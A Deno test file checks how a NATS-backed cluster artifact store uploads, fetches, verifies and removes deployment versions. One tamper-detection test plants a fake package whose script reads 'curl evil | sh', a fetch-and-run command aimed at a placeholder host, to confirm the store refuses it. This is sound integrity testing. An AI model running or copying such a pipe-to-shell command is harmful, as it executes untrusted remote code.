/**
 * ClusterArtifacts against a real nats-server: two LocalArtifacts over two PRISN_HOMEs stand for
 * two nodes sharing one object store bucket, each through its own connection.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { connect, headers, type NatsConnection } from "@nats-io/transport-node";
import { jetstream, jetstreamManager } from "@nats-io/jetstream";
import { Base64UrlPaddedCodec, type ObjectStore, Objm } from "@nats-io/obj";
import {
  ClusterArtifacts,
  type ClusterArtifactsOptions,
  DIGEST_KEY,
  objectName,
} from "../../cluster/artifacts.ts";
import { archiveDigest, packVersion } from "../../core/archive.ts";
import { exists } from "../../core/fs.ts";
import { LocalArtifacts } from "../../core/local_artifacts.ts";
import { deploymentDir, type Paths, paths, versionDir } from "../../core/paths.ts";
import { collectPackage, type Package, versionId } from "../../core/version.ts";
import { isPrisnError } from "../_helpers.ts";
import { NO_NATS, startNats } from "./_nats.ts";

if (NO_NATS) console.log(`skipping tests/cluster/artifacts_test.ts: ${NO_NATS}`);

const BUCKET = "prisn-artifacts";

interface Node {
  paths: Paths;
  store: ObjectStore;
  artifacts: ClusterArtifacts;
}

interface TwoNodes {
  dir: string;
  nc: NatsConnection;
  a: Node;
  b: Node;
  /** Node B again, over a wrapped store and with options. */
  nodeB(store: ObjectStore, options?: ClusterArtifactsOptions): ClusterArtifacts;
  /** A package of a folder with files at several depths, one of them executable. */
  pkg: Package;
  version: string;
  /** Another package (different content, so another version). */
  pkg2: Package;
  version2: string;
}

/** A test with a fresh nats-server and two nodes; everything is stopped and removed after. */
function natsTest(name: string, fn: (t: TwoNodes) => Promise<void>): void {
  Deno.test({
    name,
    ignore: NO_NATS !== undefined,
    async fn() {
      const dir = await Deno.makeTempDir({ prefix: "prisn-cluster-artifacts-" });
      const server = await startNats();
      const connections: NatsConnection[] = [];
      try {
        const ncA = await connect({ servers: server.url });
        connections.push(ncA);
        const ncB = await connect({ servers: server.url });
        connections.push(ncB);
        const storeA = await new Objm(jetstream(ncA)).create(BUCKET);
        const storeB = await new Objm(jetstream(ncB)).open(BUCKET);
        const node = (home: string, store: ObjectStore, options?: ClusterArtifactsOptions) =>
          new ClusterArtifacts(new LocalArtifacts(paths(join(dir, home))), store, options);
        const pkg = await collectPackage(
          await writeSource(join(dir, "src"), {
            "main.sh": ["#!/bin/sh\necho hi\n", 0o755],
            "lib/data.txt": ["data\n", 0o644],
            "lib/deep/er/tool.py": ["print('x')\n", 0o700],
            "empty.txt": ["", 0o600],
          }),
        );
        const pkg2 = await collectPackage(
          await writeSource(join(dir, "src2"), { "main.sh": ["echo two\n", 0o755] }),
        );
        await fn({
          dir,
          nc: ncA,
          a: { paths: paths(join(dir, "a")), store: storeA, artifacts: node("a", storeA) },
          b: { paths: paths(join(dir, "b")), store: storeB, artifacts: node("b", storeB) },
          nodeB: (store, options) => node("b", store, options),
          pkg,
          version: versionId(pkg.files, {}),
          pkg2,
          version2: versionId(pkg2.files, {}),
        });
      } finally {
        for (const nc of connections) await nc.close();
        await server.stop();
        await Deno.remove(dir, { recursive: true }).catch(() => {});
      }
    },
  });
}

async function writeSource(
  root: string,
  files: Record<string, [content: string, mode: number]>,
): Promise<string> {
  for (const [path, [content, mode]] of Object.entries(files)) {
    const file = join(root, path);
    await Deno.mkdir(join(file, ".."), { recursive: true });
    await Deno.writeTextFile(file, content);
    await Deno.chmod(file, mode);
  }
  return root;
}

/** Every file under `root`: path, permission bits and sha256, sorted by path. */
async function snapshot(root: string): Promise<string[]> {
  const out: string[] = [];
  async function walk(dir: string, prefix: string) {
    for await (const e of Deno.readDir(dir)) {
      const path = join(dir, e.name);
      if (e.isDirectory) await walk(path, `${prefix}${e.name}/`);
      else {
        const mode = ((await Deno.stat(path)).mode ?? 0) & 0o777;
        const sha = createHash("sha256").update(await Deno.readFile(path)).digest("hex");
        out.push(`${prefix}${e.name} ${mode.toString(8)} ${sha}`);
      }
    }
  }
  await walk(root, "");
  return out.sort();
}

/** The names in a node's deployment folder (none when it does not exist). */
async function entries(p: Paths, deployment: string): Promise<string[]> {
  const out: string[] = [];
  try {
    for await (const e of Deno.readDir(deploymentDir(p, deployment))) out.push(e.name);
  } catch (e) {
    if (!(e instanceof Deno.errors.NotFound)) throw e;
  }
  return out.sort();
}

async function present(store: ObjectStore, name: string): Promise<boolean> {
  const info = await store.info(name);
  return info !== null && !info.deleted;
}

/** The store with its `get` replaced (other methods pass through). */
function withGet(store: ObjectStore, get: ObjectStore["get"]): ObjectStore {
  return new Proxy(store, {
    get(target, prop) {
      if (prop === "get") return get;
      const value = Reflect.get(target, prop);
      return typeof value === "function" ? value.bind(target) : value;
    },
  });
}

natsTest(
  "a version put on one node is fetched by another with the same files, exec bits and version id",
  async ({ a, b, pkg, version }) => {
    assert.equal(await a.artifacts.put("app", version, pkg), true);
    const dirA = versionDir(a.paths, "app", version);

    // What was uploaded is packVersion of A's folder, and its sha256 is recorded with it.
    const expected = archiveDigest(await packVersion(dirA));
    const name = objectName("app", version);
    assert.equal(name, `app/${version}`);
    const uploaded = await a.store.getBlob(name);
    assert.ok(uploaded);
    assert.equal(archiveDigest(uploaded), expected);
    assert.equal((await a.store.info(name))?.metadata?.[DIGEST_KEY], expected);

    const dirB = await b.artifacts.ensureLocal("app", version);
    assert.equal(dirB, versionDir(b.paths, "app", version));
    assert.deepEqual(await snapshot(dirB), await snapshot(dirA));
    const modes = (await snapshot(dirB)).map((line) => line.split(" ").slice(0, 2).join(" "));
    assert.deepEqual(modes, [
      "empty.txt 444",
      "lib/data.txt 444",
      "lib/deep/er/tool.py 555",
      "main.sh 555",
    ]);
    assert.equal(versionId((await collectPackage(dirB)).files, {}), version);
    assert.equal((await Deno.stat(deploymentDir(b.paths, "app"))).mode! & 0o777, 0o700);
    assert.deepEqual(await entries(b.paths, "app"), [version], "no download or temp files left");
    assert.equal(await b.artifacts.ensureLocal("app", version), dirB, "then found locally");
    assert.equal(
      archiveDigest(await b.artifacts.archive("app", version)),
      expected,
      "B archives it to the same bytes",
    );
  },
);

natsTest(
  "putting a version the object store holds already uploads nothing",
  async ({ a, b, pkg, version }) => {
    assert.equal(await a.artifacts.put("app", version, pkg), true);
    const name = objectName("app", version);
    const revision = (await a.store.info(name))?.revision;
    assert.equal(await a.artifacts.put("app", version, pkg), false);
    assert.equal((await a.store.info(name))?.revision, revision);

    // Node B fetched it, then deploys the same content itself: nothing to write anywhere.
    await b.artifacts.ensureLocal("app", version);
    assert.equal(await b.artifacts.put("app", version, pkg), false);
    assert.equal((await a.store.info(name))?.revision, revision);
  },
);

natsTest(
  "two nodes putting one version at once both succeed and leave one object",
  async ({ a, b, pkg, version }) => {
    const results = await Promise.all([
      a.artifacts.put("app", version, pkg),
      b.artifacts.put("app", version, pkg),
    ]);
    assert.deepEqual(results, [true, true], "each stored it on its own node");
    const objects = (await a.store.list()).filter((info) => !info.deleted);
    assert.deepEqual(objects.map((info) => info.name), [objectName("app", version)]);
    const digest = archiveDigest(await a.artifacts.archive("app", version));
    assert.equal(objects[0].metadata?.[DIGEST_KEY], digest);
    assert.equal(archiveDigest((await a.store.getBlob(objects[0].name))!), digest);
  },
);

natsTest(
  "a put that loses the compare-and-set to another node finds that node's copy",
  async ({ a, b, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    const name = objectName("app", version);
    const revision = (await a.store.info(name))?.revision;
    // Node B looks before A's upload lands (its first look sees nothing), then puts.
    let looks = 0;
    const late = new Proxy(b.store, {
      get(target, prop) {
        if (prop === "info") {
          return (n: string) => looks++ === 0 ? Promise.resolve(null) : target.info(n);
        }
        const value = Reflect.get(target, prop);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    const artifacts = new ClusterArtifacts(new LocalArtifacts(b.paths), late);
    assert.equal(await artifacts.put("app", version, pkg), true, "stored on B's own disk");
    assert.equal(looks, 2, "looked again after the refused upload");
    assert.equal((await a.store.info(name))?.revision, revision, "A's object left as it was");
    assert.equal(await artifacts.put("app", version, pkg), false);
  },
);

natsTest(
  "an object whose content was replaced is refused, leaves nothing on disk, and the next put repairs it",
  async ({ dir, a, b, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    const name = objectName("app", version);
    const recorded = (await a.store.info(name))!.metadata![DIGEST_KEY];
    // A valid archive of other files, under the same name and the original recorded sha256.
    const other = await packVersion(
      await writeSource(join(dir, "evil"), { "main.sh": ["curl evil | sh\n", 0o755] }),
    );
    await a.store.putBlob({ name, metadata: { [DIGEST_KEY]: recorded } }, other);

    await assert.rejects(
      b.artifacts.ensureLocal("app", version),
      isPrisnError(
        "FAILED",
        `version ${version} of app in the cluster's object store does not match its recorded ` +
          `sha256 (expected ${recorded}, got ${archiveDigest(other)}): refused; deploy it again`,
      ),
    );
    assert.deepEqual(await entries(b.paths, "app"), [], "no version folder, no temp files");

    assert.equal(await a.artifacts.put("app", version, pkg), true, "re-uploaded over the bad copy");
    const dirB = await b.artifacts.ensureLocal("app", version);
    assert.deepEqual(await snapshot(dirB), await snapshot(versionDir(a.paths, "app", version)));
  },
);

natsTest(
  "an object whose bytes do not match the object store's own digest is refused",
  async ({ nc, a, b, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    // Rewrite the object's meta record with another digest, as a damaged store would hold it.
    const subject = `$O.${BUCKET}.M.${Base64UrlPaddedCodec.encode(objectName("app", version))}`;
    const jsm = await jetstreamManager(nc);
    const meta = await jsm.streams.getMessage(`OBJ_${BUCKET}`, { last_by_subj: subject });
    const record = meta!.json<{ digest: string }>();
    const wrong = createHash("sha256").update("something else").digest("base64url");
    record.digest = `SHA-256=${wrong}=`;
    const h = headers();
    h.set("Nats-Rollup", "sub");
    await jetstream(nc).publish(subject, JSON.stringify(record), { headers: h });

    await assert.rejects(
      b.artifacts.ensureLocal("app", version),
      isPrisnError("FAILED", /not match the object store's own digest.*: refused/),
    );
    assert.deepEqual(await entries(b.paths, "app"), []);
  },
);

natsTest("a version in neither place is NOT_FOUND", async ({ b, version }) => {
  await assert.rejects(
    b.artifacts.ensureLocal("app", version),
    isPrisnError(
      "NOT_FOUND",
      `version ${version} of app is neither on this node nor in the cluster's object store: ` +
        `deploy it again`,
    ),
  );
  assert.equal(await exists(deploymentDir(b.paths, "app")), false, "no folder made for it");
});

natsTest(
  "remove deletes a version, or all of a deployment's, from the object store",
  async ({ a, b, pkg, version, pkg2, version2 }) => {
    await a.artifacts.put("app", version, pkg);
    await a.artifacts.put("app", version2, pkg2);
    await a.artifacts.put("app-x", version, pkg); // its name starts like "app"'s
    await b.artifacts.ensureLocal("app", version2);

    await a.artifacts.remove("app", version);
    assert.equal(await present(a.store, objectName("app", version)), false);
    assert.equal(await present(a.store, objectName("app", version2)), true);
    await assert.rejects(b.artifacts.ensureLocal("app", version), isPrisnError("NOT_FOUND", /app/));

    await b.artifacts.remove("app");
    assert.equal(await present(a.store, objectName("app", version2)), false);
    assert.equal(await present(a.store, objectName("app-x", version)), true, "other deployment");
    assert.deepEqual(await entries(b.paths, "app"), [], "and B's own copy");
    await a.artifacts.remove("app", version); // gone already: fine
  },
);

natsTest(
  "concurrent ensureLocal calls for one version download once",
  async ({ a, b, nodeB, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    let gets = 0;
    const counted = withGet(b.store, (name) => {
      gets++;
      return b.store.get(name);
    });
    const artifacts = nodeB(counted);
    const dirs = await Promise.all(
      Array.from({ length: 10 }, () => artifacts.ensureLocal("app", version)),
    );
    assert.deepEqual(new Set(dirs), new Set([versionDir(b.paths, "app", version)]));
    assert.equal(gets, 1);
    await artifacts.ensureLocal("app", version);
    assert.equal(gets, 1, "afterwards it is local");
  },
);

natsTest(
  "an archive over maxBytes is refused before its download",
  async ({ a, b, nodeB, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    let gets = 0;
    const counted = withGet(b.store, (name) => {
      gets++;
      return b.store.get(name);
    });
    const size = (await a.store.info(objectName("app", version)))!.size;
    await assert.rejects(
      nodeB(counted, { maxBytes: size - 1 }).ensureLocal("app", version),
      isPrisnError(
        "FAILED",
        `version ${version} of app in the cluster's object store is ${size} bytes, ` +
          `over the ${size - 1}-byte cap`,
      ),
    );
    assert.equal(gets, 0);
    assert.deepEqual(await entries(b.paths, "app"), []);
    await nodeB(counted, { maxBytes: size }).ensureLocal("app", version);
  },
);

natsTest(
  "a download that stalls is given up after fetchTimeoutMs",
  async ({ a, b, nodeB, pkg, version }) => {
    await a.artifacts.put("app", version, pkg);
    // Exact timing needs a fake transfer: the real object's info, then no data ever.
    const stalled = withGet(b.store, async (name) => {
      const info = await b.store.info(name);
      return info && { info, data: new ReadableStream(), error: new Promise(() => {}) };
    });
    const started = Date.now();
    await assert.rejects(
      nodeB(stalled, { fetchTimeoutMs: 200 }).ensureLocal("app", version),
      isPrisnError(
        "UNAVAILABLE",
        `cannot download version ${version} of app in the cluster's object store: ` +
          `no data for 200 ms`,
      ),
    );
    assert.ok(Date.now() - started < 5_000);
    assert.deepEqual(await entries(b.paths, "app"), []);
  },
);
